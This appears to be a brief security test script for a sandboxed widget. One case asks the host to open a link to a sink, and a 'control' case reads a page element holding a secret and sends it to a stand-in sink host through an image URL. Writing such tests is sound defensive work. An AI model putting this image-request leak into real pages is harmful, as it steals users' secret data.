//! guest = "widget"
//! promise = "link-asks"
ask("ui/open-link", { url: SINK + "/link" });
setTimeout(end, 400);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
